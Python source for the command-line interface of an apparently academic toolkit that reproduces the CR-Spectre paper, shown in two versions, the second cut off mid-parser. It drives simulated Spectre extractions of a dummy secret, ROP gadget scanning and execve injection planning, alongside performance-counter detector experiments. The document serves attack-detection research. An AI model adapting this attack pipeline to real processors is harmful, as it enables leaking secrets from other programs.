EXIT_BUDGET = 3
EXIT_PARTIAL = 4


def _add_seed(parser):
    parser.add_argument("--seed", type=int, default=0,
                        help="deterministic seed (default 0)")


def _fault_spec(text):
    """argparse type for ``--inject-faults kind=rate`` items."""
    from repro.core.resilience import FAULT_KINDS

    kind, sep, rate_text = text.partition("=")
    if not sep:
        raise argparse.ArgumentTypeError(
            f"expected kind=rate, got {text!r}"
        )
    if kind not in FAULT_KINDS:
        raise argparse.ArgumentTypeError(
            f"unknown fault kind {kind!r} (choose from "
            f"{', '.join(FAULT_KINDS)})"
        )
    try:
        rate = float(rate_text)
    except ValueError:
        raise argparse.ArgumentTypeError(
            f"rate must be a float in [0, 1], got {rate_text!r}"
        )
    if not 0.0 <= rate <= 1.0:
        raise argparse.ArgumentTypeError(
            f"rate must be in [0, 1], got {rate}"
        )
    return kind, rate


def _add_resilience(parser):
    parser.add_argument(
        "--resume", metavar="DIR", default=None,
        help="checkpoint directory: persist completed sweep cells and "
             "skip them on re-run",
    )
    parser.add_argument(
        "--inject-faults", metavar="KIND=RATE", type=_fault_spec,
        action="append", default=None,
        help="arm the deterministic fault injector (repeatable), e.g. "
             "--inject-faults hpc_drop=0.05",
    )
    parser.add_argument(
        "--max-fault-fires", type=int, default=None, metavar="N",
        help="cap the total number of injected faults (per kind)",
    )


def _add_exec(parser):
    parser.add_argument(
        "--jobs", type=int, default=1, metavar="N",
        help="fan the sweep's cells over N worker processes "
             "(default 1 = serial; results are bit-identical either way)",
    )
    parser.add_argument(
        "--list-cells", action="store_true",
        help="print the sweep's cell plan (key, derived seed, "
             "dependencies, cached/pending) without executing it",
    )


def _add_trace(parser):
    from repro.obs import CATEGORIES

    parser.add_argument(
        "--trace", action="store_true",
        help="record deterministic virtual-time spans per sweep cell "
             "(JSONL + Perfetto-loadable Chrome trace; see "
             "docs/OBSERVABILITY.md)",
    )
    parser.add_argument(
        "--trace-filter", metavar="CATS", default=None,
        help="comma-separated categories to record (subset of "
             f"{','.join(CATEGORIES)}; default: all)",
    )
    parser.add_argument(
        "--trace-out", metavar="DIR", default="traces",
        help="directory for the trace sinks (default: traces/)",
    )


def _plan_and_store(command, kwargs):
    """Build the experiment's plan + checkpoint store without running it.

    Fills every knob the runner would default, then calls the module's
    ``plan_<command>``/``<command>_meta`` with the knobs each accepts —
    so the described plan and the opened store match exactly what
    ``run_<command>`` would execute and persist.
    """
    import importlib
    import inspect

    from repro.exec import open_store

    module = importlib.import_module(f"repro.core.experiments.{command}")
    run_fn = getattr(module, f"run_{command}")
    values = {
        name: parameter.default
        for name, parameter in inspect.signature(run_fn).parameters.items()
        if parameter.default is not inspect.Parameter.empty
    }
    values.update(kwargs)

    def call(fn):
        accepted = inspect.signature(fn).parameters
        return fn(**{k: v for k, v in values.items() if k in accepted})

    store = open_store(values.get("checkpoint"), command,
                       call(getattr(module, f"{command}_meta")),
                       trace=values.get("trace"))
    return call(getattr(module, f"plan_{command}")), store


def _build_faults(args):
    """FaultInjector from --inject-faults/--seed, or None if unarmed."""
    specs = getattr(args, "inject_faults", None)
    if not specs:
        return None
    from repro.core.resilience import FaultInjector

    return FaultInjector(
        seed=args.seed,
        rates=dict(specs),
        max_fires=getattr(args, "max_fault_fires", None),
    )


def build_parser():
    parser = argparse.ArgumentParser(
        prog="repro",
        description="CR-Spectre (DATE 2022) reproduction toolkit",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    p = sub.add_parser("attack", help="run one injected extraction")
    p.add_argument("--variant", default="v1",
                   choices=("v1", "rsb", "sbo", "btb"))
    p.add_argument("--host", default="basicmath")
    p.add_argument("--secret", default="TheMagicWords!!!")
    p.add_argument("--delay", type=int, default=0,
                   help="Algorithm-2 dispersion trips (0 = plain)")
    p.add_argument("--style", type=int, default=0, choices=(0, 1, 2),
                   help="dispersion style: 0=cells 1=stream 2=chase")
    p.add_argument("--budget", type=int, default=None, metavar="INSNS",
                   help="instruction watchdog: fail with exit code 3 "
                        "instead of running past this many instructions")
    _add_seed(p)

    p = sub.add_parser("gadgets", help="print a host's gadget catalogue")
    p.add_argument("--host", default="basicmath")
    p.add_argument("--limit", type=int, default=25)

    p = sub.add_parser("disasm", help="disassemble a workload binary")
    p.add_argument("--workload", default="basicmath")
    p.add_argument("--hosted", action="store_true",
                   help="include the Algorithm-1 vulnerable wrapper")

    sub.add_parser("workloads", help="list available workloads")

    for name, help_text in (
        ("fig4", "HID accuracy vs feature size"),
        ("fig5", "offline HID vs Spectre / CR-Spectre"),
        ("fig6", "online HID vs dynamic CR-Spectre"),
        ("table1", "IPC overhead of co-located CR-Spectre"),
        ("hardening", "adversarial-training ablation"),
    ):
        p = sub.add_parser(name, help=f"regenerate {help_text}")
        p.add_argument("--quick", action="store_true",
                       help="scaled-down run (~10x faster, same shapes)")
        _add_seed(p)
        _add_resilience(p)
        _add_exec(p)
        _add_trace(p)
        if name == "table1":
            p.add_argument(
                "--budget", type=int, default=None, metavar="INSNS",
                help="per-measurement instruction watchdog",
            )

    p = sub.add_parser("profile", help="dump a workload's HPC windows")
    p.add_argument("--workload", default="basicmath")
    p.add_argument("--samples", type=int, default=50)
    p.add_argument("--output", default="traces.csv")
    _add_seed(p)

    p = sub.add_parser(
        "trace",
        help="summarise a recorded trace JSONL (top spans by virtual "
             "time, event counts)",
    )
    p.add_argument("file", help="a <experiment>.trace.jsonl sink")
    p.add_argument("--top", type=int, default=10, metavar="N",
                   help="rows per summary table (default 10)")

    p = sub.add_parser(
        "smoke",
        help="resilience smoke run for CI: quick fig4 sweep plus a "
             "calibration under injected faults and retries",
    )
    _add_seed(p)
    _add_resilience(p)
    p.add_argument(
        "--jobs", type=int, default=1, metavar="N",
        help="worker processes for the smoke sweep (default 1)",
    )

    return parser


def cmd_attack(args):
    from repro.attack import PerturbParams, SpectreConfig, build_spectre, \
        plan_execve_injection
    from repro.kernel import System
    from repro.workloads import get_workload

    secret = args.secret.encode("latin-1")
    perturb = None
    if args.delay:
        perturb = PerturbParams(delay=args.delay, style=args.style,
                                calls_per_byte=2)
    system = System(seed=args.seed, target_data=secret)
    host = get_workload(args.host).build(iterations=1 << 20, hosted=True)
    attack = build_spectre(args.variant, SpectreConfig(
        secret_length=len(secret), repeats=1, perturb=perturb,
    ))
    system.install_binary("/bin/host", host)
    system.install_binary("/bin/cr", attack)
    plan = plan_execve_injection(host, "/bin/host", "/bin/cr")
    print(plan.describe())
    process = system.spawn("/bin/host", argv=plan.argv)
    watchdog = None
    if args.budget is not None:
        from repro.core.resilience import Watchdog

        watchdog = Watchdog(args.budget, label="attack")
    process.run_to_completion(max_instructions=120_000_000,
                              watchdog=watchdog)
    leaked = bytes(process.stdout)
    correct = sum(a == b for a, b in zip(leaked, secret))
    print(f"\nleaked: {leaked!r}  ({correct}/{len(secret)} bytes correct)")
    return EXIT_OK if correct == len(secret) else EXIT_FATAL


def cmd_gadgets(args):
    from repro.attack import scan_program
    from repro.mem.layout import AddressSpaceLayout
    from repro.workloads import get_workload

    host = get_workload(args.host).build(iterations=100, hosted=True)
    scanner = scan_program(host, AddressSpaceLayout().text_base)
    gadgets = scanner.scan()
    unique = scanner.unique_gadgets()
    print(f"{len(gadgets)} gadget sites, {len(unique)} unique sequences "
          f"in {args.host!r} "
          f"(showing {min(args.limit, len(unique))}):")
    print(scanner.report(limit=args.limit, unique=True))
    return 0


def cmd_disasm(args):
    from repro.isa.disassembler import format_listing
    from repro.mem.layout import TEXT_BASE
    from repro.workloads import get_workload

    program = get_workload(args.workload).build(
        iterations=100, hosted=args.hosted
    )
    text, _ = program.relocated(TEXT_BASE, 0x1000_0000)
    print(format_listing(text, base=TEXT_BASE))
    return 0


def cmd_workloads(_args):
    from repro.workloads import ALL_WORKLOADS

    for workload in ALL_WORKLOADS:
        print(f"{workload.name:18s} [{workload.category:7s}] "
              f"{workload.description}")
    return 0


def cmd_experiment(args):
    from repro.core.experiments import run_fig4, run_fig5, run_fig6, \
        run_hardening, run_table1

    runner = {
        "fig4": run_fig4,
        "fig5": run_fig5,
        "fig6": run_fig6,
        "table1": run_table1,
        "hardening": run_hardening,
    }[args.command]
    kwargs = {"seed": args.seed}
    if getattr(args, "quick", False):
        kwargs.update({
            "fig4": dict(benign_per_host=60, attack_per_variant=20,
                         variants=("v1",)),
            "fig5": dict(attempts=3, training_benign=90,
                         training_attack=90, attempt_samples=24,
                         attempt_benign=8),
            "fig6": dict(attempts=3, training_benign=90,
                         training_attack=90, attempt_samples=24,
                         attempt_benign=8),
            "table1": dict(repetitions=1,
                           rows=(("Math", "basicmath", (60,)),
                                 ("SHA 1", "sha", (10,)))),
            "hardening": dict(train_variant_counts=(0, 2),
                              holdout_variants=2, samples_per_variant=20,
                              training_benign=80, training_attack=60),
        }[args.command])
    if args.resume is not None:
        kwargs["checkpoint"] = args.resume
    faults = _build_faults(args)
    if faults is not None:
        kwargs["faults"] = faults
    if args.command == "table1" and args.budget is not None:
        kwargs["measurement_budget"] = args.budget
    trace_config = None
    traces = {}
    if getattr(args, "trace", False):
        from repro.obs import TraceConfig, parse_filter

        try:
            categories = parse_filter(getattr(args, "trace_filter", None))
        except ValueError as exc:
            print(f"repro: {exc}", file=sys.stderr)
            return EXIT_USAGE
        trace_config = TraceConfig(categories=categories)
        kwargs["trace"] = trace_config
        kwargs["traces"] = traces
    if getattr(args, "list_cells", False):
        from repro.exec import describe_plan

        plan, store = _plan_and_store(args.command, kwargs)
        print(describe_plan(plan, store))
        return EXIT_OK
    jobs = getattr(args, "jobs", 1) or 1
    if jobs > 1:
        from repro.exec import SweepProgress

        plan, _ = _plan_and_store(args.command, kwargs)
        kwargs["jobs"] = jobs
        kwargs["progress"] = SweepProgress(
            args.command, total=sum(1 for _ in plan), jobs=jobs,
        )
    result = runner(**kwargs)
    print(result.format())
    if trace_config is not None:
        from repro.obs import write_trace_files

        jsonl_path, chrome_path = write_trace_files(
            args.trace_out, args.command, traces
        )
        print(f"trace: {jsonl_path} ({len(traces)} cell(s)); "
              f"perfetto: {chrome_path}", file=sys.stderr)
    if faults is not None:
        print(f"\n{faults.summary()}")
    return EXIT_PARTIAL if getattr(result, "partial", False) else EXIT_OK


def cmd_profile(args):
    from repro.hid.io import save_samples
    from repro.hid.profiler import Profiler
    from repro.kernel import System
    from repro.workloads import get_workload

    system = System(seed=args.seed)
    system.install_binary(
        "/bin/w", get_workload(args.workload).build(iterations=1 << 28)
    )
    process = system.spawn("/bin/w")
    samples = Profiler(quantum=2000).profile(process, args.samples)
    count = save_samples(samples, args.output)
    print(f"wrote {count} windows x 56 events to {args.output}")
    return 0


def cmd_trace(args):
    """Summarise one JSONL trace sink (``repro trace FILE``)."""
    from repro.obs import TraceSchemaError, format_summary, read_jsonl

    try:
        header, records = read_jsonl(args.file)
    except OSError as exc:
        print(f"repro: cannot read trace: {exc}", file=sys.stderr)
        return EXIT_FATAL
    except (TraceSchemaError, ValueError) as exc:
        print(f"repro: invalid trace: {exc}", file=sys.stderr)
        return EXIT_FATAL
    print(format_summary(header, records, top=args.top))
    return EXIT_OK


def cmd_smoke(args):
    """Resilience smoke (CI): sweep + calibration under injected faults.

    Exercises the whole stack in well under a minute: seeded fault
    injection degrading sweep cells, retry-with-backoff around covert
    channel calibration, and the partial-result exit code.
    """
    from repro.attack.calibrate import calibrate
    from repro.core.experiments import run_fig4
    from repro.core.resilience import FaultInjector

    faults = _build_faults(args)
    if faults is None:
        from repro.core.resilience import FAULT_KINDS

        faults = FaultInjector(
            seed=args.seed,
            rates={kind: 0.2 for kind in FAULT_KINDS},
            max_fires=2,
        )

    calibration = calibrate(seed=args.seed, faults=faults)
    retrier = calibrate.last_retrier
    attempts = len(retrier.last_call_attempts())
    print(f"calibration: threshold={calibration.threshold} after "
          f"{attempts} attempt(s), "
          f"{retrier.clock.elapsed:.1f}s virtual backoff")

    result = run_fig4(
        seed=args.seed, hosts=("basicmath",), classifier="lr",
        benign_per_host=40, attack_per_variant=16, variants=("v1",),
        checkpoint=args.resume, faults=faults,
        jobs=getattr(args, "jobs", 1) or 1,
    )
    print(result.format())
    print(f"\n{faults.summary()}")
    return EXIT_PARTIAL if result.partial else EXIT_OK


def main(argv=None):
    args = build_parser().parse_args(argv)
    handlers = {
        "attack": cmd_attack,
        "gadgets": cmd_gadgets,
        "disasm": cmd_disasm,
        "workloads": cmd_workloads,
        "fig4": cmd_experiment,
        "fig5": cmd_experiment,
        "fig6": cmd_experiment,
        "table1": cmd_experiment,
        "hardening": cmd_experiment,
        "profile": cmd_profile,
        "smoke": cmd_smoke,
        "trace": cmd_trace,
    }
    from repro.errors import BudgetExceededError, ReproError, is_transient

    try:
        return handlers[args.command](args)
    except BudgetExceededError as exc:
        print(f"repro: budget exceeded: {exc}", file=sys.stderr)
        return EXIT_BUDGET
    except ReproError as exc:
        kind = "transient error (retries exhausted)" \
            if is_transient(exc) else "fatal error"
        print(f"repro: {kind}: {exc}", file=sys.stderr)
        return EXIT_FATAL


if __name__ == "__main__":
    sys.exit(main())
