"""Command-line interface: ``python -m repro <command>``.

Commands
--------
``attack``      run one ROP-injected extraction and print the leak
``gadgets``     print the ROP gadget catalogue of a host binary
``disasm``      disassemble a workload or attack binary
``workloads``   list available workloads
``fig4/fig5/fig6/table1/hardening``  regenerate one paper artefact
``profile``     profile a *simulated workload*: dump HPC windows to CSV
``hotspots``    profile the *simulator itself*: cycle attribution by
                subsystem / opcode / basic block (see docs/PROFILING.md)
``bench``       unified bench runner + perf-trend ledger (``--trend``
                renders sparklines and the regression verdict)
``smoke``       fast resilience smoke run (CI): faults + retries
``trace``       summarise a recorded trace (see ``--trace`` above)
``compare``     diff two ledger runs knob-by-knob / span-by-span
``gate``        check a run's headlines against expectations.json
``report``      render a run manifest as a static HTML dashboard
``serve``       run the distributed sweep job server
``worker``      run one self-healing sweep worker (``--connect``)
``status``      live fleet view of a running job server
``chaos``       sabotage a dist sweep, assert byte-parity vs serial

Experiment runs record a manifest in the run ledger (``runs/`` by
default; ``--no-ledger`` opts out) — see docs/LEDGER.md.

Exit codes
----------
0  success
1  fatal error (unrecoverable :class:`~repro.errors.ReproError`)
2  usage error (bad arguments; argparse convention)
3  instruction budget / watchdog exceeded
4  partial results (some sweep cells degraded by faults)
5  regression gate failed / compared runs differ
6  dist server unreachable and fallback disabled (--no-dist-fallback)
"""

import argparse
import os
import sys

EXIT_OK = 0
EXIT_FATAL = 1
EXIT_USAGE = 2
EXIT_BUDGET = 3
EXIT_PARTIAL = 4
EXIT_GATE = 5
EXIT_UNREACHABLE = 6


#: Scaled-down knob overlays: ``--quick`` runs and every profiled
#: ``repro hotspots --experiment`` run (the instrumented step loop pays
#: an order of magnitude per instruction, so hotspot attribution always
#: samples at quick scale — the *shape* of the profile is what matters).
QUICK_KNOBS = {
    "fig4": dict(benign_per_host=60, attack_per_variant=20,
                 variants=("v1",)),
    "fig5": dict(attempts=3, training_benign=90,
                 training_attack=90, attempt_samples=24,
                 attempt_benign=8),
    "fig6": dict(attempts=3, training_benign=90,
                 training_attack=90, attempt_samples=24,
                 attempt_benign=8),
    "table1": dict(repetitions=1,
                   rows=(("Math", "basicmath", (60,)),
                         ("SHA 1", "sha", (10,)))),
    "hardening": dict(train_variant_counts=(0, 2),
                      holdout_variants=2, samples_per_variant=20,
                      training_benign=80, training_attack=60),
}


def _add_seed(parser):
    parser.add_argument("--seed", type=int, default=0,
                        help="deterministic seed (default 0)")


def _fault_spec(text):
    """argparse type for ``--inject-faults kind=rate`` items."""
    from repro.core.resilience import FAULT_KINDS

    kind, sep, rate_text = text.partition("=")
    if not sep:
        raise argparse.ArgumentTypeError(
            f"expected kind=rate, got {text!r}"
        )
    if kind not in FAULT_KINDS:
        raise argparse.ArgumentTypeError(
            f"unknown fault kind {kind!r} (choose from "
            f"{', '.join(FAULT_KINDS)})"
        )
    try:
        rate = float(rate_text)
    except ValueError:
        raise argparse.ArgumentTypeError(
            f"rate must be a float in [0, 1], got {rate_text!r}"
        )
    if not 0.0 <= rate <= 1.0:
        raise argparse.ArgumentTypeError(
            f"rate must be in [0, 1], got {rate}"
        )
    return kind, rate


def _add_resilience(parser):
    parser.add_argument(
        "--resume", metavar="DIR", default=None,
        help="checkpoint directory: persist completed sweep cells and "
             "skip them on re-run",
    )
    parser.add_argument(
        "--inject-faults", metavar="KIND=RATE", type=_fault_spec,
        action="append", default=None,
        help="arm the deterministic fault injector (repeatable), e.g. "
             "--inject-faults hpc_drop=0.05",
    )
    parser.add_argument(
        "--max-fault-fires", type=int, default=None, metavar="N",
        help="cap the total number of injected faults (per kind)",
    )


def _add_exec(parser):
    parser.add_argument(
        "--jobs", type=int, default=1, metavar="N",
        help="fan the sweep's cells over N worker processes "
             "(default 1 = serial; results are bit-identical either way)",
    )
    parser.add_argument(
        "--list-cells", action="store_true",
        help="print the sweep's cell plan (key, derived seed, "
             "dependencies, cached/pending) without executing it",
    )
    parser.add_argument(
        "--cell-cache", metavar="DIR", default=None,
        help="content-addressed cell result cache root (default: "
             "<ledger>/cellcache; disabled when the ledger is off "
             "unless set explicitly)",
    )
    parser.add_argument(
        "--no-cell-cache", action="store_true",
        help="always compute cells, never replay memoized results",
    )
    parser.add_argument(
        "--backend", choices=("serial", "pool", "dist"), default=None,
        help="execution backend (default: serial, or the warm pool "
             "when --jobs > 1; 'dist' runs the sweep on a repro serve "
             "job server and needs --connect)",
    )
    parser.add_argument(
        "--connect", metavar="HOST:PORT", default=None,
        help="dist job server address (implies --backend dist)",
    )
    parser.add_argument(
        "--no-dist-fallback", action="store_true",
        help="fail with exit code 6 when the dist server is "
             "unreachable, instead of degrading to the local warm-pool "
             "backend",
    )
    parser.add_argument(
        "--dist-deadline", type=float, default=10.0, metavar="S",
        help="seconds to keep retrying an unreachable dist server "
             "before degrading (or failing; default 10)",
    )


def _add_hotspots(parser):
    from repro.obs import SUBSYSTEMS

    parser.add_argument(
        "--hotspots", action="store_true",
        help="self-profile the simulator while it runs this "
             "experiment: per-subsystem cycle attribution, opcode and "
             "basic-block hotness, summarised after the run and "
             "recorded in the manifest (instrumented loop; see "
             "docs/PROFILING.md)",
    )
    parser.add_argument(
        "--hotspots-filter", metavar="SUBSYSTEMS", default=None,
        help="comma-separated subsystems to export (subset of "
             f"{','.join(SUBSYSTEMS)}; default: all)",
    )


def _add_trace(parser):
    from repro.obs import CATEGORIES

    parser.add_argument(
        "--trace", action="store_true",
        help="record deterministic virtual-time spans per sweep cell "
             "(JSONL + Perfetto-loadable Chrome trace; see "
             "docs/OBSERVABILITY.md)",
    )
    parser.add_argument(
        "--trace-filter", metavar="CATS", default=None,
        help="comma-separated categories to record (subset of "
             f"{','.join(CATEGORIES)}; default: all)",
    )
    parser.add_argument(
        "--trace-out", metavar="DIR", default=None,
        help="directory for the trace sinks (default: the run's ledger "
             "directory, or traces/ when the ledger is disabled)",
    )


def _add_ledger(parser):
    parser.add_argument(
        "--ledger", metavar="DIR", default="runs",
        help="run-ledger root: record a run manifest under "
             "DIR/<run-id>/ and index it in DIR/ledger.jsonl "
             "(default: runs/; see docs/LEDGER.md)",
    )
    parser.add_argument(
        "--no-ledger", action="store_true",
        help="do not record a run manifest",
    )


def _resolve(command, kwargs):
    """(module, resolved knob dict) for one experiment command.

    Fills every knob the runner would default from ``run_<command>``'s
    signature, then overlays *kwargs* — so plan/meta helpers called via
    :func:`_call_accepted` see exactly what ``run_<command>`` would.
    """
    import importlib
    import inspect

    module = importlib.import_module(f"repro.core.experiments.{command}")
    run_fn = getattr(module, f"run_{command}")
    values = {
        name: parameter.default
        for name, parameter in inspect.signature(run_fn).parameters.items()
        if parameter.default is not inspect.Parameter.empty
    }
    values.update(kwargs)
    return module, values


def _call_accepted(fn, values):
    """Call *fn* with the subset of *values* its signature accepts."""
    import inspect

    accepted = inspect.signature(fn).parameters
    return fn(**{k: v for k, v in values.items() if k in accepted})


def _plan_and_store(command, kwargs):
    """Build the experiment's plan + checkpoint store without running it.

    Fills every knob the runner would default, then calls the module's
    ``plan_<command>``/``<command>_meta`` with the knobs each accepts —
    so the described plan and the opened store match exactly what
    ``run_<command>`` would execute and persist.
    """
    from repro.exec import open_store

    module, values = _resolve(command, kwargs)
    store = open_store(values.get("checkpoint"), command,
                       _call_accepted(getattr(module, f"{command}_meta"),
                                      values),
                       trace=values.get("trace"))
    plan = _call_accepted(getattr(module, f"plan_{command}"), values)
    return plan, store


def _build_faults(args):
    """FaultInjector from --inject-faults/--seed, or None if unarmed."""
    specs = getattr(args, "inject_faults", None)
    if not specs:
        return None
    from repro.core.resilience import FaultInjector

    return FaultInjector(
        seed=args.seed,
        rates=dict(specs),
        max_fires=getattr(args, "max_fault_fires", None),
    )


def build_parser():
    from repro.uarch import UARCHS

    from repro.cpu.engine import DEFAULT_ENGINE, ENGINE_MODES

    parser = argparse.ArgumentParser(
        prog="repro",
        description="CR-Spectre (DATE 2022) reproduction toolkit",
    )
    parser.add_argument(
        "--engine", choices=ENGINE_MODES, default=None,
        help="execution engine for every simulated CPU: 'step' (the "
             "single-instruction reference), 'fast' (the locals-bound "
             "interpreter loop) or 'sb' (the superblock translator, "
             f"default {DEFAULT_ENGINE}). Ambient only — never part of "
             "manifests or run ids, so the same experiment run under "
             "different engines compares byte-identical",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    p = sub.add_parser("attack", help="run one injected extraction")
    p.add_argument("--variant", default="v1",
                   choices=("v1", "rsb", "sbo", "btb"))
    p.add_argument("--host", default="basicmath")
    p.add_argument("--secret", default="TheMagicWords!!!")
    p.add_argument("--delay", type=int, default=0,
                   help="Algorithm-2 dispersion trips (0 = plain)")
    p.add_argument("--style", type=int, default=0, choices=(0, 1, 2),
                   help="dispersion style: 0=cells 1=stream 2=chase")
    p.add_argument("--budget", type=int, default=None, metavar="INSNS",
                   help="instruction watchdog: fail with exit code 3 "
                        "instead of running past this many instructions")
    _add_seed(p)

    p = sub.add_parser("gadgets", help="print a host's gadget catalogue")
    p.add_argument("--host", default="basicmath")
    p.add_argument("--limit", type=int, default=25)

    p = sub.add_parser("disasm", help="disassemble a workload binary")
    p.add_argument("--workload", default="basicmath")
    p.add_argument("--hosted", action="store_true",
                   help="include the Algorithm-1 vulnerable wrapper")

    sub.add_parser("workloads", help="list available workloads")

    for name, help_text in (
        ("fig4", "HID accuracy vs feature size"),
        ("fig5", "offline HID vs Spectre / CR-Spectre"),
        ("fig6", "online HID vs dynamic CR-Spectre"),
        ("table1", "IPC overhead of co-located CR-Spectre"),
        ("hardening", "adversarial-training ablation"),
    ):
        p = sub.add_parser(name, help=f"regenerate {help_text}")
        p.add_argument("--quick", action="store_true",
                       help="scaled-down run (~10x faster, same shapes)")
        p.add_argument("--uarch", default="inorder",
                       choices=sorted(UARCHS),
                       help="CPU microarchitecture every simulated "
                            "machine runs on (default: inorder)")
        _add_seed(p)
        _add_resilience(p)
        _add_exec(p)
        _add_trace(p)
        _add_hotspots(p)
        _add_ledger(p)
        if name == "table1":
            p.add_argument(
                "--budget", type=int, default=None, metavar="INSNS",
                help="per-measurement instruction watchdog",
            )

    p = sub.add_parser(
        "profile",
        help="profile a simulated workload: dump its HPC windows to "
             "CSV (the HID feature pipeline's input; to profile the "
             "simulator itself, see 'repro hotspots')",
    )
    p.add_argument("--workload", default="basicmath")
    p.add_argument("--samples", type=int, default=50)
    p.add_argument("--output", default="traces.csv")
    _add_seed(p)

    p = sub.add_parser(
        "hotspots",
        help="profile the simulator itself: virtual-cycle attribution "
             "by subsystem, per-opcode tables and basic-block hotness "
             "(the simulated workload's profiler is 'repro profile')",
    )
    p.add_argument("--workload", default="basicmath",
                   help="workload to simulate under the profiler "
                        "(default: basicmath)")
    p.add_argument("--iterations", type=int, default=2000, metavar="N",
                   help="workload iterations (default 2000; the "
                        "instrumented loop is slow by design)")
    p.add_argument("--experiment", default=None,
                   choices=("fig4", "fig5", "fig6", "table1",
                            "hardening"),
                   help="profile a whole experiment sweep (at --quick "
                        "scale) instead of one workload")
    p.add_argument("--uarch", default="inorder", choices=sorted(UARCHS),
                   help="CPU microarchitecture (default: inorder)")
    p.add_argument("--jobs", type=int, default=1, metavar="N",
                   help="worker processes for --experiment sweeps "
                        "(profiles are bit-identical either way)")
    p.add_argument("--top", type=int, default=15, metavar="N",
                   help="rows per hotspot table (default 15)")
    p.add_argument("--filter", metavar="SUBSYSTEMS", default=None,
                   help="comma-separated subsystems to export "
                        "(default: all)")
    p.add_argument("--collapsed", action="store_true",
                   help="emit flamegraph.pl collapsed-stack lines "
                        "instead of tables")
    p.add_argument("--by", default="subsystem",
                   choices=("subsystem", "opcode", "block"),
                   help="leaf frame dimension for --collapsed "
                        "(default: subsystem)")
    p.add_argument("--json", action="store_true",
                   help="emit the merged profile snapshot as JSON")
    _add_seed(p)

    p = sub.add_parser(
        "bench",
        help="unified bench runner + perf-trend ledger: run a suite "
             "and append one row to benchmarks/history.jsonl; --trend "
             "renders per-metric sparklines and the regression verdict "
             "(exit 5 on regression, like 'repro gate')",
    )
    from repro.obs.bench import SUITES as _BENCH_SUITES

    p.add_argument("--suite", default="core",
                   choices=(*_BENCH_SUITES, "all"),
                   help="bench suite to run (default: core)")
    p.add_argument("--quick", action="store_true",
                   help="scaled-down measurement (noisier; recorded "
                        "as quick=true in the history row)")
    p.add_argument("--history", metavar="FILE", default=None,
                   help="history ledger path (default: "
                        "benchmarks/history.jsonl in the checkout)")
    p.add_argument("--trend", action="store_true",
                   help="render the trend from the history and check "
                        "the latest rows against the committed "
                        "baselines instead of running a suite")
    p.add_argument("--last", type=int, default=20, metavar="N",
                   help="history rows per sparkline (default 20)")
    p.add_argument("--json", action="store_true",
                   help="emit the appended row(s) as JSON")

    p = sub.add_parser(
        "trace",
        help="summarise a recorded trace JSONL (top spans by virtual "
             "time, event counts)",
    )
    p.add_argument("file",
                   help="a <experiment>.trace.jsonl sink, or a "
                        "*.chrome.json Perfetto export")
    p.add_argument("--top", type=int, default=10, metavar="N",
                   help="rows per summary table (default 10)")
    p.add_argument("--json", action="store_true",
                   help="emit the summary as JSON instead of tables")

    p = sub.add_parser(
        "compare",
        help="diff two ledger runs: knobs, headlines, cell statuses, "
             "metrics — and the first divergent trace span per cell",
    )
    p.add_argument("run_a", help="run id / run dir / manifest path")
    p.add_argument("run_b", help="run id / run dir / manifest path")
    p.add_argument("--ledger", metavar="DIR", default="runs",
                   help="ledger root for bare run ids (default: runs/)")
    p.add_argument("--no-traces", action="store_true",
                   help="skip trace-level divergence localisation")
    p.add_argument("--max-rows", type=int, default=20, metavar="N",
                   help="rows per diff section before eliding "
                        "(default 20)")

    p = sub.add_parser(
        "gate",
        help="check a run's recorded headlines against the committed "
             "expectation bands; exit 5 on regression",
    )
    p.add_argument("run", help="run id / run dir / manifest path")
    p.add_argument("--ledger", metavar="DIR", default="runs",
                   help="ledger root for bare run ids (default: runs/)")
    p.add_argument("--expectations", metavar="FILE",
                   default="expectations.json",
                   help="expectation bands (default: expectations.json)")
    p.add_argument("--profile", default="quick",
                   help="band profile: 'quick' for scaled-down CI runs, "
                        "'full' for paper-scale runs (default: quick)")

    p = sub.add_parser(
        "report",
        help="render a run manifest as a self-contained static HTML "
             "dashboard (headline tiles, sparklines, cell tables)",
    )
    p.add_argument("run", help="run id / run dir / manifest path")
    p.add_argument("--ledger", metavar="DIR", default="runs",
                   help="ledger root for bare run ids (default: runs/)")
    p.add_argument("--html", metavar="OUT", default=None,
                   help="output path (default: <run dir>/report.html)")
    p.add_argument("--expectations", metavar="FILE", default=None,
                   help="colour headline tiles with gate verdicts from "
                        "this expectations file (default: "
                        "expectations.json when present)")
    p.add_argument("--profile", default="quick",
                   help="band profile for tile verdicts (default: quick)")

    p = sub.add_parser(
        "serve",
        help="run the distributed sweep job server (leases, "
             "heartbeats, hedged re-dispatch; see docs/DISTRIBUTED.md)",
    )
    p.add_argument("--host", default="127.0.0.1",
                   help="bind address (default 127.0.0.1)")
    p.add_argument("--port", type=int, default=0,
                   help="bind port (default 0 = pick a free port; the "
                        "bound port is printed as 'listening on "
                        "HOST:PORT')")
    p.add_argument("--lease-timeout", type=float, default=5.0,
                   metavar="S",
                   help="seconds without a heartbeat before a batch "
                        "lease is revoked and requeued (default 5)")
    p.add_argument("--attempt-budget", type=int, default=3, metavar="N",
                   help="times one cell may be re-leased after "
                        "revocations before degrading to a failed-cell "
                        "outcome (default 3)")
    p.add_argument("--batch-size", type=int, default=None, metavar="N",
                   help="cells per leased batch (default: auto, "
                        "targeting 2 batches per connected worker)")
    p.add_argument("--no-hedge", action="store_true",
                   help="disable hedged re-dispatch of stale tail "
                        "batches to idle workers")
    p.add_argument("--journal", metavar="FILE", default=None,
                   help="append fleet lifecycle events (worker joins, "
                        "lease expiries, requeues, stat samples) to this "
                        "JSONL journal (see docs/OBSERVABILITY.md)")
    p.add_argument("--metrics-out", metavar="FILE", default=None,
                   help="atomically rewrite a Prometheus text "
                        "exposition of the fleet here (scrape it with a "
                        "textfile collector)")
    p.add_argument("--stats-interval", type=float, default=1.0,
                   metavar="S",
                   help="minimum seconds between journalled stat "
                        "samples / metrics-out rewrites (default 1)")

    p = sub.add_parser(
        "status",
        help="live fleet view of a running repro serve job server "
             "(workers, waves, leases, requeue/expiry counters)",
    )
    p.add_argument("--connect", metavar="HOST:PORT", required=True,
                   help="job server address")
    p.add_argument("--json", action="store_true",
                   help="emit one snapshot as JSON and exit")
    p.add_argument("--watch", type=float, default=None, metavar="S",
                   help="refresh the table view every S seconds until "
                        "interrupted")
    p.add_argument("--timeout", type=float, default=5.0, metavar="S",
                   help="per-request connect/answer timeout (default 5)")

    p = sub.add_parser(
        "worker",
        help="run one sweep worker against a repro serve job server",
    )
    p.add_argument("--connect", metavar="HOST:PORT", required=True,
                   help="job server address")
